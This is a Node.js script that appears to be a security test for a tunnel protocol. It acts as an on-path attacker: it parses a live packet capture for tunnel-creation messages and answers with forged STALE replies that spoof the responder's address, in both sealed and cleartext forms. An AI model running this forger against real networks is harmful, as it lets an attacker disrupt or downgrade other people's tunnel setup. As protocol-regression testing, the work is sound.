// An on-path attacker against tunnel creation (issue 15): it reads the CREATEs a host sends
// (TID, key id and the creator's one-time key T_I travel in the clear) from a capture file
// tcpdump keeps writing, and answers each creation made under an older key of the responder
// with a forged STALE carrying the responder's newest ephemeral certificate, spoofing the
// responder's address (the namespace holds it; see the test for the routing). The certificate is public: the
// forger fetches the responder's record itself (an active prober) from OWN_IP, every 500 ms.
//   node forge-stale.mjs PCAP CREATOR_IP RESPONDER_IP PORT SECONDS OWN_IP
// Works against both wire forms: STALE and RECORD_RESPONSE sealed (dist/ exports
// STALE_AD_BYTES) or in the clear (before the sealed records). Bounded: SECONDS, at most
// 100 STALEs. Prints "ready" once it holds a certificate, then a JSON summary on stdout.
import dgram from "node:dgram";
import fs from "node:fs";
import * as packet from "../../dist/wire/packet.js";
import * as keys from "../../dist/tunnel/keys.js";
import { aeadOpen, aeadSeal, dh, dhKeyPair, randomBytes } from "../../dist/crypto/sodium.js";
import { decodeEphemeral } from "../../dist/wire/cert.js";

const [pcap, creatorIp, responderIp, portS, secondsS, ownIp] = process.argv.slice(2);
const port = Number(portS);
const sealed = packet.STALE_AD_BYTES !== undefined;
const { PacketType } = packet;

// ---- the responder's newest ephemeral certificate, fetched as any prober can
const probe = dgram.createSocket("udp4");
await new Promise((r) => probe.bind(0, ownIp, r));
let newest = null; // { raw, keyId }
let pending = null;
probe.on("message", (m) => {
  if (!pending || m.length < 16 || m[8] !== PacketType.RecordResponse) return;
  let eph = null;
  if (sealed) {
    const h = packet.decodeRecordResponseHeader(m, 0, m.length);
    const shared = h ? dh(pending.secretKey, h.pub) : null;
    if (!h || !shared) return;
    const key = keys.recordKey(shared, m.subarray(0, 8), pending.publicKey, h.pub);
    const nonce = Buffer.concat([Buffer.alloc(4), m.subarray(8, 16)]);
    const ct = m.subarray(packet.RECORD_AD_BYTES);
    const pt = Buffer.alloc(ct.length - 16);
    if (!aeadOpen(pt, ct, m.subarray(0, packet.RECORD_AD_BYTES), nonce, key)) return;
    eph = packet.decodeRecordBody(pt, 0, pt.length)?.eph ?? null;
  } else eph = packet.decodeRecordResponse(m, 0, m.length)?.eph ?? null;
  const e = eph ? decodeEphemeral(eph) : null;
  if (e && (!newest || e.notBefore >= newest.notBefore))
    newest = { raw: eph, keyId: e.keyId, notBefore: e.notBefore };
});
function fetchRecord() {
  const tid = randomBytes(8).latin1Slice(0, 8);
  pending = dhKeyPair();
  const req = sealed
    ? packet.encodeRecordRequest(tid, pending.publicKey, 800)
    : packet.encodeRecordRequest(tid, 800);
  probe.send(req, port, responderIp);
}

// ---- the forged answers, from the responder's address
const sock = dgram.createSocket("udp4");
await new Promise((r) => sock.bind(port, responderIp, r));

function forgeStale(create) {
  const tid = create.latin1Slice(0, 8);
  const keyId = create.readUInt32BE(16);
  if (!sealed) return packet.encodeStale(tid, keyId, newest.raw, 0);
  // sealed to the CREATE's T_I (public) with a one-time key of the forger's own
  const tI = create.subarray(packet.CREATE_OFFSET_PUB, packet.CREATE_OFFSET_PUB + 32);
  const kp = dhKeyPair();
  const key = keys.staleKey(dh(kp.secretKey, tI), create.subarray(0, 8), tI, kp.publicKey);
  const b = packet.encodeStale(tid, keyId, kp.publicKey, newest.raw, 0);
  const nonce = Buffer.concat([Buffer.alloc(4), b.subarray(8, 16)]);
  const ad = packet.STALE_AD_BYTES;
  aeadSeal(b.subarray(ad), b.subarray(ad, b.length - 16), b.subarray(0, ad), nonce, key);
  return b;
}

let off = 24;
/** New UDP payloads from the creator to the responder's port since the last call. */
function readNew() {
  let b;
  try {
    b = fs.readFileSync(pcap);
  } catch {
    return [];
  }
  if (b.length < 24) return [];
  const le = b.readUInt32LE(0) === 0xa1b2c3d4;
  const u32 = (o) => (le ? b.readUInt32LE(o) : b.readUInt32BE(o));
  const out = [];
  while (off + 16 <= b.length) {
    const incl = u32(off + 8);
    if (off + 16 + incl > b.length) break;
    const p = b.subarray(off + 16, off + 16 + incl);
    off += 16 + incl;
    if (p.length < 14 + 20 + 8 || p.readUInt16BE(12) !== 0x0800 || p[14 + 9] !== 17) continue;
    const src = [...p.subarray(26, 30)].join(".");
    const dst = [...p.subarray(30, 34)].join(".");
    const l4 = 14 + (p[14] & 15) * 4;
    if (src !== creatorIp || dst !== responderIp || p.readUInt16BE(l4 + 2) !== port) continue;
    out.push({ sport: p.readUInt16BE(l4), payload: Buffer.from(p.subarray(l4 + 8)) });
  }
  return out;
}

const end = Date.now() + Number(secondsS) * 1000;
const seen = new Set();
let sent = 0;
let attempts = 0;
let lastFetch = 0;
let ready = false;
const refused = []; // creations under the newest key: nothing to forge
while (Date.now() < end && sent < 100) {
  if (Date.now() - lastFetch >= 500) {
    lastFetch = Date.now();
    fetchRecord();
  }
  if (!ready && newest) {
    ready = true;
    console.log("ready");
  }
  for (const { sport, payload } of readNew()) {
    if (payload.length < 52 || payload[8] !== PacketType.Create) continue;
    const tid = payload.latin1Slice(0, 8);
    if (seen.has(tid)) continue;
    seen.add(tid);
    attempts++;
    if (!newest || newest.keyId === payload.readUInt32BE(16)) {
      refused.push(payload.readUInt32BE(16));
      continue;
    }
    sock.send(forgeStale(payload), sport, creatorIp);
    sent++;
  }
  await new Promise((r) => setTimeout(r, 10));
}
console.log(
  JSON.stringify({ sealed, attempts, sent, newestKeyId: newest?.keyId ?? null, notForged: refused }),
);
sock.close();
probe.close();
